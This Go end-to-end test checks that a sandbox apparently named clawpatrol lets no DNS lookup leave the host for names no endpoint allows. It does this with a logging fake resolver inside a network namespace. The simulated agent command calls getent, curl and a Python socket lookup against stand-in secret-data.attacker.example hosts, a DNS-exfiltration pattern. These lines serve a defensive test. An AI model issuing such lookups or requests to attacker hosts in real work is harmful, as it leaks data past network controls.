package e2e

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// fakeDNS is a resolver that logs every name it is asked and answers
// 127.0.0.1: it stands for "the network" in TestNoLookupLeavesBeforeAllow.
const fakeDNS = `
import socket, struct, sys
log = open(sys.argv[1], "a", buffering=1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", 53))
open(sys.argv[2], "w").close()
while True:
    q, addr = s.recvfrom(4096)
    i, labels = 12, []
    while q[i]:
        labels.append(q[i+1:i+1+q[i]].decode()); i += 1 + q[i]
    qtype = struct.unpack(">H", q[i+1:i+3])[0]
    log.write(".".join(labels) + "\n")
    ans = b""
    if qtype == 1:
        ans = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + bytes([127, 0, 0, 1])
    hdr = q[:2] + b"\x81\x80" + q[4:6] + struct.pack(">HHH", 1 if ans else 0, 0, 0)
    s.sendto(hdr + q[12:i+5] + ans, addr)
`

// TestNoLookupLeavesBeforeAllow runs clawpatrol in a network namespace of
// the test's own whose only resolver logs every query. The agent looks up
// and connects to names no endpoint allows: none of them reaches the
// resolver. A name an endpoint allows is resolved — only when the agent
// connects — which shows the log would have seen a leak.
func TestNoLookupLeavesBeforeAllow(t *testing.T) {
	e := newEnv(t)
	e.config(`
endpoints:
  allowed:
    hosts: [allowed.example]
    ports: [80]
    protocol: tcp
`)
	e.write("fakedns.py", fakeDNS)
	e.write("resolv.conf", "nameserver 127.0.0.1\n")
	dnsLog := filepath.Join(e.dir, "dns.log")
	ready := filepath.Join(e.dir, "dns.ready")
	agent := `getent hosts secret-data.attacker.example >/dev/null; ` +
		`curl -s --connect-timeout 20 http://secret-data2.attacker.example/; ` +
		`python3 -c "import socket; socket.getaddrinfo('secret-data3.attacker.example', 443)"; ` +
		`curl -s --connect-timeout 20 http://allowed.example/; echo "curl=$?"`
	run := fmt.Sprintf("%s run -c %s --audit %s -- sh -c %s", bin, e.cfg, e.auditPath(), shellQuote(agent))
	if os.Getuid() == 0 {
		run = fmt.Sprintf("setpriv --reuid=%d --regid=%d --clear-groups env HOME=%s PATH=%s %s", agentUID, agentGID, e.home, agentPath, run)
	}
	script := fmt.Sprintf(`set -e
ip link set lo up
mount --bind %[1]s/resolv.conf /etc/resolv.conf
python3 %[1]s/fakedns.py %[2]s %[3]s &
dns=$!
while [ ! -e %[3]s ]; do sleep 0.05; done
%[4]s
kill $dns
`, e.dir, dnsLog, ready, run)
	args := []string{"-nm", "sh", "-c", script}
	if os.Getuid() != 0 {
		args = append([]string{"-Ur"}, args...)
	}
	cmd := exec.Command("unshare", args...)
	cmd.Env = []string{"PATH=" + agentPath, "HOME=" + e.home}
	r := e.exec(cmd)
	if !strings.Contains(r.stdout, "curl=7") {
		t.Fatalf("want the allowed name refused after resolving to a local address:\n%v", r)
	}
	logged, err := os.ReadFile(dnsLog)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(logged), "attacker") {
		t.Fatalf("names left the host before any allow:\n%s", logged)
	}
	if !strings.Contains(string(logged), "allowed.example") {
		t.Fatalf("the allowed name was never resolved, so the test proves nothing:\n%s", logged)
	}
	var local bool
	for _, a := range e.actions() {
		if a["endpoint"] == "allowed" && a["decision"].(map[string]any)["rule"] == "local-address" {
			local = true
		}
	}
	if !local {
		t.Fatalf("want the allowed endpoint's flow denied as local-address: %v", e.actions())
	}
}

// shellQuote quotes s for sh as one word.
func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
